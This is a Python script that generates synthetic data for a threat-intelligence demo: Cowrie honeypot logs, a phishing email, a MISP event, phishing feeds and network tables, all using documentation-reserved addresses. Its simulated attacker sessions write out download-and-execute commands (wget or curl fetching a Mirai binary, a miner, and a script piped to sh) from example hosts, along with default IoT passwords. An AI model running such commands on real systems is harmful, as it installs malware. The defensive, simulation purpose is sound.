#!/usr/bin/env python3
"""Writes what lies beside it: cowrie.json, mail.eml, misp.json, openphish.txt, sightings.json, networks.csv,
countries.csv, search-engines.json. The demo's data.

The same output on every run. Addresses and names are those reserved for
documentation (RFC 5737, RFC 3849, RFC 2606), so no real party is accused; the
numbers of networks are those for documentation (RFC 5398), the countries' codes
those that ISO 3166 leaves to users (XA to XZ).

Three sensors run three generations of Cowrie, as a grown installation does:
  osaka   before 2018: isError and system in every record, key exchange lists
          inside client.version, terminal width and height swapped
  reno    2.x: time with an offset without a colon, textual duration, hassh
  london  3.0.6: uuid and protocol everywhere, duration_ms, orig_ip
"""

import hashlib
import json
import random
from datetime import datetime, timedelta, timezone
from pathlib import Path

HERE = Path(__file__).resolve().parent
RND = random.Random(2026)
START = datetime(2026, 11, 2, 3, 14, 7, 120_000, tzinfo=timezone.utc)

SENSORS = {
    "osaka": {"age": "old", "ip": "192.0.2.11", "utcoffset": 0},
    "reno": {"age": "middle", "ip": "192.0.2.12", "utcoffset": -8},
    "london": {"age": "new", "ip": "192.0.2.13", "utcoffset": 0},
}


def sha256(text):
    return hashlib.sha256(text.encode()).hexdigest()


def file_hash(name):
    return sha256("demo payload " + name)


def kex(kex_algs, enc, mac, comp):
    text = ";".join(",".join(names) for names in (kex_algs, enc, mac, comp))
    return {
        "hassh": hashlib.md5(text.encode()).hexdigest(),
        "hasshAlgorithms": text,
        "kexAlgs": kex_algs,
        "keyAlgs": ["ssh-ed25519", "rsa-sha2-512", "ssh-rsa"],
        "encCS": enc,
        "macCS": mac,
        "compCS": comp,
        "langCS": [""],
    }


CLIENTS = {
    "go": ("SSH-2.0-Go", kex(
        ["curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha1"],
        ["aes128-gcm@openssh.com", "chacha20-poly1305@openssh.com", "aes128-ctr"],
        ["hmac-sha2-256-etm@openssh.com", "hmac-sha2-256", "hmac-sha1"], ["none"])),
    "libssh2": ("SSH-2.0-libssh2_1.4.3", kex(
        ["diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1"],
        ["aes128-ctr", "aes256-ctr", "3des-cbc"], ["hmac-sha1", "hmac-md5"], [])),
    "openssh": ("SSH-2.0-OpenSSH_9.6", kex(
        ["sntrup761x25519-sha512@openssh.com", "curve25519-sha256", "ext-info-c"],
        ["chacha20-poly1305@openssh.com", "aes256-gcm@openssh.com"],
        ["umac-64-etm@openssh.com", "hmac-sha2-512"], ["none", "zlib@openssh.com", "zlib"])),
}

# A payload's host may be a name or an address; "verify" also stands in sightings.json.
PAYLOADS = {
    "mirai": "http://dl.payload.example/bins/mirai.x86",
    "dropper": "http://203.0.113.66/8UsA.sh",
    "miner": "http://cdn.updates.example.net/pool/kswapd0",
    "verify": "http://login.bank-verify.example/kit/update.sh",
    "ipv6": "http://[2001:db8:66::5]/arm7",
    "tftp": "tftp://203.0.113.66/tftp1.sh",
}

# A gang shares its addresses, client, passwords, commands and payloads.
GANGS = [
    {
        "name": "mirai", "client": "libssh2", "protocol": "telnet",
        "ips": ["198.51.100.7", "198.51.100.23", "203.0.113.45", "198.51.100.140"],
        "logins": [("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "")],
        "success": ("root", "xc3511"),
        "commands": ["enable", "system", "shell", "sh", "/bin/busybox MIRAI",
                     "cd /tmp; wget http://dl.payload.example/bins/mirai.x86; chmod 777 mirai.x86"],
        "bad_command": "enable", "payloads": ["mirai", "tftp"],
    },
    {
        "name": "miner", "client": "go", "protocol": "ssh",
        "ips": ["203.0.113.45", "203.0.113.99", "2001:db8:bad::17", "192.0.2.201"],
        "logins": [("root", "123456"), ("root", "password"), ("ubuntu", "ubuntu"), ("admin", "admin")],
        "success": ("root", "123456"),
        "commands": ["uname -s -v -n -r -m", "nproc", "cat /proc/cpuinfo | grep name | wc -l",
                     "curl -O http://cdn.updates.example.net/pool/kswapd0; chmod +x kswapd0; ./kswapd0"],
        "bad_command": "lspci | grep VGA", "payloads": ["miner", "dropper"],
    },
    {
        "name": "proxy", "client": "openssh", "protocol": "ssh",
        "ips": ["198.51.100.88", "2001:db8:bad::17", "203.0.113.150"],
        "logins": [("pi", "raspberry"), ("root", "123456")],
        "success": ("pi", "raspberry"),
        "commands": ["uname -a", "wget http://login.bank-verify.example/kit/update.sh -O- | sh"],
        "bad_command": "systemctl status", "payloads": ["verify", "ipv6"],
    },
]
TUNNELS = [("www.example.org", 443), ("mail.example.com", 25), ("203.0.113.80", 80), ("2001:db8:80::1", 443)]
KEY = "AAAAB3NzaC1yc2EAAAADAQABAAABAQDemoKeyOfNobody"


class Session:
    """One attack, written the way its sensor's generation of Cowrie writes it."""

    def __init__(self, number, sensor, gang, ip, start):
        self.sensor, self.gang, self.ip, self.now = sensor, gang, ip, start
        self.start = start
        self.age = SENSORS[sensor]["age"]
        digits = 8 if self.age == "old" else 12
        self.id = sha256(f"session {number}")[:digits]
        self.number = number
        self.protocol = gang["protocol"]
        self.records = []

    def time(self):
        if self.age == "middle":
            zone = timezone(timedelta(hours=SENSORS[self.sensor]["utcoffset"]))
            return self.now.astimezone(zone).strftime("%Y-%m-%dT%H:%M:%S.%f%z")
        return self.now.strftime("%Y-%m-%dT%H:%M:%S.%fZ")

    def emit(self, eventid, message, **fields):
        self.now += timedelta(milliseconds=RND.randrange(180, 2900))
        record = {"eventid": "cowrie." + eventid, **fields, "message": message}
        record["sensor"] = self.sensor
        record["timestamp"] = self.time()
        record["src_ip"] = self.ip
        record["session"] = self.id
        if self.age == "old":
            record["isError"] = 0
            kind = "Telnet" if self.protocol == "telnet" else "SSH"
            record["system"] = f"HoneyPot{kind}Transport,{self.number},{self.ip}"
        if self.age == "new":
            record["uuid"] = "00000000-0000-4000-8000-0000000000d1"
            record["protocol"] = self.protocol
        self.records.append((self.now, record))

    def connect(self):
        dst = SENSORS[self.sensor]["ip"]
        port = 2223 if self.protocol == "telnet" else 2222
        fields = {"src_port": RND.randrange(32768, 61000), "dst_ip": dst, "dst_port": port}
        if self.age == "middle":
            fields["protocol"] = self.protocol
        self.emit("session.connect", f"New connection: {self.ip} [session: {self.id}]", **fields)

    def hello(self):
        if self.protocol == "telnet":
            return
        version, lists = CLIENTS[self.gang["client"]]
        if self.age == "old":
            names = ("kexAlgs", "keyAlgs", "encCS", "macCS", "compCS", "langCS")
            self.emit("client.version", f"Remote SSH version: '{version}'", version=f"'{version}'",
                      **{name: lists[name] for name in names})
        else:
            self.emit("client.version", f"Remote SSH version: {version}", version=version)
            self.emit("client.kex", f"SSH client hassh fingerprint: {lists['hassh']}", **lists)

    def login(self, succeeds):
        logins = [pair for pair in self.gang["logins"] if pair != self.gang["success"]]
        for user, password in RND.sample(logins, min(len(logins), RND.choice((1, 2, 2, 3)))):
            self.emit("login.failed", f"login attempt [{user}/{password}] failed",
                      username=user, password=password)
        if succeeds:
            user, password = self.gang["success"]
            self.emit("login.success", f"login attempt [{user}/{password}] succeeded",
                      username=user, password=password)

    def key_login(self):
        key = {"username": "root", "fingerprint": "ba:5e:ba:11:00:00:00:00:00:00:00:00:00:00:00:01"}
        if self.age != "old":
            key.update(key=KEY, type="ssh-rsa")
        self.emit("client.fingerprint", "public key attempt for user root", **key)
        if self.age == "new":
            self.emit("login.success", "public key login attempt for [root] succeeded", **key)

    def shell(self):
        if self.protocol == "ssh":
            width, height = RND.choice(((80, 24), (120, 40), (211, 55)))
            if self.age == "old":
                width, height = height, width
            self.emit("client.size", f"Terminal Size: {width} {height}", width=width, height=height)
            self.emit("client.var", "request_env: LANG=en_US.UTF-8", name="LANG", value="en_US.UTF-8")
        if self.age != "old":
            params = {"arch": "linux-x64-lsb"}
            self.emit("session.params", [] if self.age == "middle" else "", **params)
        log = f"var/lib/cowrie/tty/{self.id}.log"
        if self.age == "old":
            self.emit("log.open", f"Opening TTY Log: {log}", ttylog=log)
        for command in self.gang["commands"]:
            self.emit("command.input", f"CMD: {command}", input=command)
            if self.age == "old" and command.startswith("uname"):
                self.emit("command.success", f"Command found: {command}", input=command)
        bad = self.gang["bad_command"]
        self.emit("command.failed", f"Command not found: {bad}", input=bad)

    def download(self, turn):
        payload = self.gang["payloads"][turn % len(self.gang["payloads"])]
        url = PAYLOADS[payload]
        digest = file_hash(payload)
        if turn % 5 == 4:
            self.emit("session.file_download.failed", f"Attempt to download file(s) from URL ({url}) failed", url=url)
            return
        fields = {"url": url, "outfile": f"var/lib/cowrie/downloads/{digest}", "shasum": digest}
        if self.age != "old":
            fields.update(destfile="/tmp/" + url.rsplit("/", 1)[1], duplicate=turn > 3)
        self.emit("session.file_download", f"Downloaded URL ({url}) with SHA-256 {digest}", **fields)

    def redirect_capture(self):
        digest = sha256("echo captured")
        self.emit("session.file_download", f"Saved redir contents with SHA-256 {digest}", duplicate=False,
                  outfile=f"var/lib/cowrie/downloads/{digest}", shasum=digest, destfile="/root/.ssh/authorized_keys")

    def upload(self, sftp):
        digest = file_hash("miner")
        if sftp:
            out = f"var/lib/cowrie/downloads/{digest}"
            self.emit("session.file_upload", f'SFTP Uploaded file "kswapd0" to {out}',
                      filename="kswapd0", outfile=out, shasum=digest)
        else:
            self.emit("session.file_upload", 'SCP Uploaded file "kswapd0"', filename="kswapd0", destfile="/tmp/kswapd0",
                      duplicate=False, url="/tmp/kswapd0", outfile=digest, shasum=digest)

    def tunnel(self, turn):
        host, port = TUNNELS[turn % len(TUNNELS)]
        claimed = {}
        if self.age == "new":
            claimed = {"orig_ip": "192.0.2.250", "orig_port": 40000 + turn}
        self.emit("direct-tcpip.request", f"direct-tcp connection request to {host}:{port}",
                  dst_ip=host, dst_port=port, **claimed)
        if turn % 2 == 0:
            text = repr(f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            self.emit("direct-tcpip.data", f"direct-tcp forward to {host}:{port} with data {text}",
                      dst_ip=host, dst_port=port, data=text, id=0)

    def close(self):
        seconds = (self.now - self.start).total_seconds()
        if self.age == "old":
            length = {"duration": seconds}
        elif self.age == "middle":
            length = {"duration": f"{seconds:.1f}"}
        else:
            length = {"duration_ms": int(seconds * 1000)}
        self.emit("session.closed", f"Connection lost after {seconds:.1f} seconds", **length)


def attack(number, start):
    gang = GANGS[number % len(GANGS)]
    sensor = list(SENSORS)[number // len(GANGS) % len(SENSORS)]
    visit = number // (len(GANGS) * len(SENSORS))
    turn = number // len(GANGS)
    session = Session(number, sensor, gang, gang["ips"][turn % len(gang["ips"])], start)
    session.connect()
    session.hello()
    inside = number % 4 != 3
    if gang["name"] == "proxy" and visit % 2:
        session.key_login()
    session.login(inside)
    if inside:
        session.shell()
        session.download(turn)
        if gang["name"] == "miner":
            session.upload(sftp=visit % 2 == 0)
        if gang["name"] == "proxy":
            session.tunnel(turn)
            session.redirect_capture()
    session.close()
    return session.records


# Addresses that connect and do nothing else: a scanner, and a search engine that looks what is there.
SCANNERS = ["198.51.100.200", "192.0.2.70"]


def scan(number, start):
    """A connection without a word."""
    quiet = {"name": "quiet", "protocol": "ssh"}
    sensor = list(SENSORS)[number % len(SENSORS)]
    session = Session(1000 + number, sensor, quiet, SCANNERS[number % len(SCANNERS)], start)
    session.connect()
    session.close()
    return session.records


def cowrie_records():
    records, start = [], START
    for number in range(54):
        records += attack(number, start)
        start += timedelta(minutes=RND.randrange(35, 720), seconds=RND.randrange(60))
    for number in range(12):
        records += scan(number, START + timedelta(hours=7 * number, minutes=11))
    records.sort(key=lambda pair: pair[0])
    lines = [record for _, record in records]
    # What a crash of the sensor leaves behind: the filter must refuse this one, and go on.
    lines.insert(137, {"eventid": "cowrie.login.failed", "username": "root", "password": "123456",
                       "message": "login attempt [root/123456] failed", "sensor": "reno",
                       "timestamp": "2026-11-04T05:23:56.000000-0800", "src_ip": "203.0.113.99"})
    return lines


def sightings():
    day = datetime(2026, 11, 18, 9, 0, tzinfo=timezone.utc).timestamp()
    return [
        {"timestamp": day, "category": "malicious", "context": "malicious", "url": PAYLOADS["verify"]},
        {"timestamp": day + 600, "category": "malicious", "context": "malicious",
         "url": "http://login.bank-verify.example/signin.html"},
        {"timestamp": day + 1200, "sha256": file_hash("miner"), "filename": "kswapd0"},
        {"timestamp": "2026-11-18T10:30:00+01:00", "ipv4": "203.0.113.45"},
        {"timestamp": day + 1800, "category": "benign", "context": "benign", "hostname": "www.example.org"},
        {"timestamp": day + 2400, "category": "benign", "context": "unknown", "ipv4": "192.0.2.53"},
    ]


def feed():
    """As OpenPhish lists them: one URL a line. Two of the hosts were in the honeypots, too."""
    return [
        PAYLOADS["verify"],
        "https://login.bank-verify.example/signin.html?session=8c1f",
        "http://dl.payload.example/parcel/track.php",
        "https://webmail.example.net/owa/auth/logon.aspx",
        "http://203.0.113.150:8080/secure/",
        "https://account-update.example.org/%7Eroot/index.html",
    ]


MAIL = """\
Received: from mx.example.org (mx.example.org [192.0.2.25]) by imap.example.org; Wed, 18 Nov 2026 09:20:04 +0000
Received: from mailer.bank-verify.example (unknown [203.0.113.150]) by mx.example.org; Wed, 18 Nov 2026 09:20:03 +0000
From: =?utf-8?q?Your_B=C3=A4nk?= <support@bank-verify.example>
To: "Doe, Jane" <jdoe@example.org>
Reply-To: claims@bank-verify.example
Subject: Your account is locked
Date: Wed, 18 Nov 2026 09:20:00 +0000
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8

Dear customer,

confirm who you are at http://login.bank-verify.example/signin.html within 24 hours.
"""


def misp():
    """What a partner shares: the kit's host and what it drops."""
    attributes = [
        ("hostname", "login.bank-verify.example", True),
        ("ip-src", "203.0.113.150", True),
        ("filename|sha256", "update.sh|" + file_hash("verify"), True),
        ("link", "https://www.example.org/advisories/2026-17", False),
    ]
    when = int(datetime(2026, 11, 18, 12, 0, tzinfo=timezone.utc).timestamp())
    org = {"id": "1", "name": "CERT Example", "uuid": "5a2f6b1c-0000-4000-8000-000000000001"}
    return {"Event": {
        "id": "17", "uuid": "5a2f6b1c-0000-4000-8000-000000000017", "info": "Phishing kit against bank customers",
        "date": "2026-11-18", "timestamp": str(when), "threat_level_id": "2", "analysis": "2", "published": True,
        "Org": org, "Orgc": org, "Tag": [{"name": "tlp:green"}],
        "Attribute": [
            {"uuid": f"5a2f6b1c-0000-4000-8000-0000000001{number:02}", "type": kind, "value": value, "to_ids": to_ids,
             "category": "Network activity", "timestamp": str(when)}
            for number, (kind, value, to_ids) in enumerate(attributes)
        ],
    }}


# Whose the networks are, and where: first and last address, number and name, country.
NETWORKS = [
    ("192.0.2.64", "192.0.2.127", 64496, "Example Search", "XA"),
    ("192.0.2.192", "192.0.2.255", 64497, "Example Cloud", "XB"),
    ("198.51.100.0", "198.51.100.127", 64498, "Example Broadband", "XC"),
    ("198.51.100.128", "198.51.100.255", 64499, "Example Hosting", "XB"),
    ("203.0.113.0", "203.0.113.255", 64500, "Bulletproof Example", "XD"),
    ("2001:db8:66::", "2001:db8:66:ffff:ffff:ffff:ffff:ffff", 64498, "Example Broadband", "XC"),
    ("2001:db8:bad::", "2001:db8:bad:ffff:ffff:ffff:ffff:ffff", 64500, "Bulletproof Example", "XD"),
]

# In the format of MISP's warninglists.
SEARCH_ENGINES = {
    "name": "Crawlers of search engines", "version": 1, "type": "cidr", "description": "Made up for the demo",
    "matching_attributes": ["ip-src", "ip-dst"], "list": ["192.0.2.64/26"],
}


def write(name, records, separators):
    lines = (json.dumps(record, separators=separators) + "\n" for record in records)
    (HERE / name).write_text("".join(lines), encoding="utf-8")


if __name__ == "__main__":
    write("cowrie.json", cowrie_records(), (",", ":"))
    write("sightings.json", sightings(), (", ", ": "))
    (HERE / "openphish.txt").write_text("".join(f"{url}\n" for url in feed()), encoding="utf-8")
    (HERE / "mail.eml").write_text(MAIL, encoding="utf-8")
    numbers = (f"{first},{last},{number},{name}\n" for first, last, number, name, _ in NETWORKS)
    (HERE / "networks.csv").write_text("".join(numbers), encoding="utf-8")
    countries = (f"{first},{last},{country}\n" for first, last, _, _, country in NETWORKS)
    (HERE / "countries.csv").write_text("".join(countries), encoding="utf-8")
    (HERE / "search-engines.json").write_text(json.dumps(SEARCH_ENGINES, indent=1) + "\n", encoding="utf-8")
    (HERE / "misp.json").write_text(json.dumps(misp(), indent=1) + "\n", encoding="utf-8")
